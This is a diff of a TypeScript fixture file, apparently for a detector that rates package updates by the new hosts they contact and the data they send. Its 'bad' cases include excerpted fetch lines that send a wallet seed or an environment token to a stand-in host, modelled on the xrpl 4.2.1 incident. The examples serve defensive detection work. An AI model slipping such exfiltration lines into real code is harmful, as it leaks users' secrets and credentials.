@@ -4,6 +4,8 @@ const api = to('api.acme.example');
 
 const other = { ...to('www.partner.example'), path: 'other.js' };
 
+const token = { kind: 'environment.read', attributes: { name: 'ACME_TOKEN' } } as const;
+
 function to(destination: string) {
   return {
     kind: 'network.connect',
@@ -11,10 +13,12 @@ function to(destination: string) {
   } as const;
 }
 
+function field(sink: string, name: string) {
+  return { kind: 'payload.field', attributes: { field: name, sink } } as const;
+}
+
 function sentTo(sink: string) {
-  return ['subject', 'text'].map(
-    (field) => ({ kind: 'payload.field', attributes: { field, sink } }) as const,
-  );
+  return ['subject', 'text'].map((name) => field(sink, name));
 }
 
 export const examples: ReleaseRuleExamples = {
@@ -23,19 +27,13 @@ export const examples: ReleaseRuleExamples = {
       why: 'the host of a call is another one, whatever the version says',
       severity: 'high',
       old: { can: [api] },
-      new: {
-        version: '2.0.0',
-        can: [to('api.collect.invalid')],
-      },
+      new: { version: '2.0.0', can: [to('api.collect.invalid')] },
     },
     {
       why: 'one of several hosts is another one in the same file',
       severity: 'high',
       old: { can: [api, other] },
-      new: {
-        version: '1.1.0',
-        can: [to('api.collect.invalid'), other],
-      },
+      new: { version: '1.1.0', can: [to('api.collect.invalid'), other] },
     },
     {
       why: 'a second host gets what the first one gets',
@@ -66,13 +64,54 @@ export const examples: ReleaseRuleExamples = {
     },
     {
       why: 'a patch that sends anything to a host that nobody knows',
-      severity: 'high',
+      severity: 'medium',
       old: { can: [api] },
       new: {
         can: [
           api,
           to('collect.invalid'),
           { kind: 'payload.field', attributes: { field: 'q', sink: 'collect.invalid' } },
+        ],
+      },
+    },
+    {
+      why: 'a patch that sends a password to a host that nobody knows',
+      severity: 'high',
+      old: { can: [api] },
+      new: {
+        can: [to('collect.invalid'), api, field('collect.invalid', 'user.password')],
+      },
+    },
+    {
+      why: 'xrpl 4.2.1 as it was: the seed stands in a header',
+      severity: 'high',
+      old: { can: [api] },
+      new: {
+        version: '1.1.0',
+        can: [
+          api,
+          {
+            ...to('collect.invalid'),
+            excerpt:
+              "return fetch('https://collect.invalid/xc', { headers: { 'ad-referral': seed } });",
+          },
+        ],
+      },
+    },
+    {
+      why: 'a credential that it always read goes to another host',
+      severity: 'high',
+      old: { can: [api, token] },
+      new: {
+        version: '1.1.0',
+        can: [
+          api,
+          token,
+          {
+            ...to('collect.invalid'),
+            excerpt:
+              "fetch('https://collect.invalid/v', { headers: { id: process.env.ACME_TOKEN } })",
+          },
         ],
       },
     },
@@ -95,9 +134,7 @@ export const examples: ReleaseRuleExamples = {
       why: 'a collecting service in a patch',
       severity: 'high',
       old: { can: [api] },
-      new: {
-        can: [api, to('abc.m.pipedream.net')],
-      },
+      new: { can: [api, to('abc.m.pipedream.net')] },
     },
     {
       why: 'a new host while it is installed',
@@ -149,12 +186,29 @@ export const examples: ReleaseRuleExamples = {
   ],
   good: [
     {
+      why: 'signing in at a service with what it hands out for that',
+      atMost: 'medium',
+      old: { can: [api, token] },
+      new: {
+        can: [
+          api,
+          token,
+          {
+            ...to('login.partner.invalid'),
+            excerpt:
+              "fetch('https://login.partner.invalid/token', { body: { client_id: process.env.CLIENT_ID } })",
+          },
+          ...['api_key', 'client_secret', 'event'].map((one) =>
+            field('login.partner.invalid', one),
+          ),
+        ],
+      },
+    },
+    {
       why: 'a vendor that moves to another name of its own',
       atMost: 'info',
       old: { can: [api] },
-      new: {
-        can: [to('eu.acme.example')],
-      },
+      new: { can: [to('eu.acme.example')] },
     },
     {
       why: 'a host that takes the place of one in another file, while others stay',
@@ -181,10 +235,7 @@ export const examples: ReleaseRuleExamples = {
       why: 'a feature in a minor release',
       atMost: 'info',
       old: { can: [api] },
-      new: {
-        version: '1.1.0',
-        can: [api, to('api.maps.example')],
-      },
+      new: { version: '1.1.0', can: [api, to('api.maps.example')] },
     },
     {
       why: 'another host of the same owner',
